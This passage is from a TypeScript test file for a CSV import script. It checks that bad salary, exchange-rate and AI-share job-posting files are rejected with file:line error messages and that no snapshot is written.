			'bad.csv:2: Date: '
		],
		[
			'an exchange-rate series H.10 does not publish',
			'fx',
			'Date,Country,Exchange rate\n2024-01-01,Poland,3.9\n',
			'bad.csv:2: Country: "Poland" is not allowed'
		],
		[
			'an exchange-rate file without its rate column',
			'fx',
			'Date,Country\n2024-01-01,Euro\n',
			'bad.csv:1: Exchange rate: missing column'
		],
		[
			'an AI share given twice for a country and day',
			'aiShare',
			'date,jobcountry,AI_share_postings\n2025-01-30,GB,4\n2025-01-30,US,2\n2025-01-30,GB,4\n',
			'bad.csv:4: date: GB 2025-01-30 appears again (first on line 2), expected one value per country and day'
		]
	];

	it.each(cases)(
		'rejects %s with file:line: column: problem and writes nothing',
		async (_, which, content, message) => {
			const result = await importing(content, which);
			expect(result.message).toContain(message);
			expect(result.kept).toBe('previous snapshot\n');
			expect(result.files).toEqual(['bad.csv', 'regions.csv', 'roles.csv', 'salaries.csv']);
		}
	);

	it('exits non-zero from the command line with the message on stderr', async () => {
		const out = await freshOut();
		const raw = path.join(out, 'bad.csv');
		await writeFile(raw, `${header}\n${good.replace('USD', 'XXY')}\n`);
		// every input named, so the run needs no raw source beside the repository (a fresh clone)
		const postings = path.join(out, 'aggregate_job_postings_GB.csv');
		await writeFile(
			postings,
			'date,jobcountry,indeed_job_postings_index_SA,indeed_job_postings_index_NSA,variable\n'
		);
		const wages = path.join(out, 'posted-wage-growth-by-country.csv');
		await writeFile(
			wages,
			'jobcountry,country,month,n_obs,posted_wage_growth_yoy,posted_wage_growth_yoy_3moavg\n'
		);
		const run = promisify(execFile)(process.execPath, [
			'--import',
			'tsx',
			'scripts/import.ts',
			'--salaries',
			raw,
			'--ai-share',
			RAW_AI,
			'--fx',
			RAW_FX,
			'--postings',
			postings,
			'--wages',
			wages,
			'--out',
			out
		]);
		const error = (await run.then(
			() => null,
			(e) => e
		)) as { code: number; stderr: string } | null;
		expect(error?.code).toBe(1);
		expect(error?.stderr).toContain('error: bad.csv:2: salary_currency: "XXY" is not a known code');
		expect(error?.stderr).toContain('No snapshot was written');
	});
});
